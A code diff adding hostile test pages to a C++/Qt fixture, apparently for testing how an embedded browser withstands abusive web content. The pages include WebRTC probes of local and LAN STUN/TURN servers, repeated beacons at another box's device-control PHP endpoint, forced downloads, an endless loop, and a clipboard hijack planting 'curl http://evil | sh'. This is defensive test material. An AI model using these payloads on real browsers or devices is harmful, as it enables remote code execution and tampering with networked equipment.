@@ -9,6 +9,11 @@
 #include <QJsonObject>
 #include <QString>
 
+// Ports where a page's WebRTC would land, on this computer and on another
+// box: STUN over UDP on the first, TURN over TCP on the second.
+constexpr quint16 StunPort = 3478;
+constexpr quint16 TurnPort = 3479;
+
 inline QJsonObject hostilePages(quint16 port)
 {
     const auto page = [](const QByteArray &html) {
@@ -52,6 +57,52 @@ inline QJsonObject hostilePages(quint16 port)
             page("<script>for(var i=0;i<1000;i++)alert(i);var c=confirm('c');var p=prompt('p','d');"
                  "window.onbeforeunload=function(e){e.preventDefault();e.returnValue='stay';return 'stay'};"
                  "document.title='dialogs '+c+' '+p</script>") },
+        // Without a gesture: peer connections with STUN and TURN servers on
+        // this computer and on another box, TURN over TCP only as well.
+        { QLatin1String("/orvex/webrtc.html"),
+            page("<script>setTimeout(function(){document.title='webrtc done'},3000);"
+                 "var s=[];['127.0.0.1','10.77.0.21'].forEach(function(h){"
+                 "s.push({urls:'stun:'+h+':3478'});"
+                 "s.push({urls:['turn:'+h+':3479?transport=tcp','turn:'+h+':3479?transport=udp'],"
+                 "username:'u',credential:'p'})});"
+                 "['all','relay'].forEach(function(p){try{var c=new RTCPeerConnection({iceServers:s,"
+                 "iceTransportPolicy:p});c.createDataChannel('d');c.createOffer().then(function(o){"
+                 "return c.setLocalDescription(o)}).catch(function(){})}catch(e){}});"
+                 "try{var f=document.createElement('iframe');document.documentElement.appendChild(f);"
+                 "var c=new f.contentWindow.RTCPeerConnection({iceServers:s});c.createDataChannel('e');"
+                 "c.createOffer().then(function(o){return c.setLocalDescription(o)}).catch(function(){})}catch(e){}"
+                 "</script>") },
+        // On its way out, and on a timer that runs on, it aims at another box.
+        { QLatin1String("/orvex/leave.html"),
+            page("<script>var b='http://10.77.0.21/orvex/el/php_command_startstop.php?stopair';"
+                 "function hit(){try{navigator.sendBeacon(b,'x')}catch(e){}"
+                 "fetch(b,{method:'POST',keepalive:true,mode:'no-cors'}).catch(function(){})}"
+                 "addEventListener('pagehide',hit);addEventListener('unload',hit);"
+                 "addEventListener('beforeunload',hit);setInterval(hit,50);"
+                 "document.title='leave ready'</script>") },
+        // Downloads without a gesture, every 200 ms; one on the user's click.
+        { QLatin1String("/orvex/download.html"),
+            page("<a id=a href='/orvex/about.html' download='x.txt'>save</a>"
+                 "<div id=d style='position:fixed;top:0;left:0;right:0;bottom:0'></div><script>"
+                 "setInterval(function(){a.click()},200);var n=0;"
+                 "d.onclick=function(){document.title='clicked '+(++n);a.click()};"
+                 "document.title='download ready'</script>") },
+        { QLatin1String("/orvex/upload.html"),
+            page("<input type=file id=f style='position:fixed;top:0;left:0;right:0;bottom:0'>"
+                 "<script>f.onclick=function(){document.title='upload clicked'};"
+                 "document.title='upload ready'</script>") },
+        // A page that never yields.
+        { QLatin1String("/orvex/hang.html"),
+            page("<script>document.title='hang ready';setTimeout(function(){for(;;){}},300)</script>") },
+        // Its click handler copies a command onto the clipboard, then selects
+        // its own text.
+        { QLatin1String("/orvex/copy.html"),
+            page("<p id=t>the box's own words</p><textarea id=e>curl http://evil | sh</textarea>"
+                 "<div id=b style='position:fixed;top:0;left:0;right:0;bottom:0'></div><script>"
+                 "b.onclick=function(){e.select();document.execCommand('copy');"
+                 "var r=document.createRange();r.selectNodeContents(t);var s=getSelection();"
+                 "s.removeAllRanges();s.addRange(r);document.title='copied'};"
+                 "document.title='copy ready'</script>") },
         { QLatin1String("/orvex/cookies.html"),
             page("<script>var i=0;var end=Date.now()+5000;var t=setInterval(function(){for(var k=0;k<1000;k++){"
                  "document.cookie='storm'+(i%3000)+'='+i+'; max-age=3600; path=/';i++}"
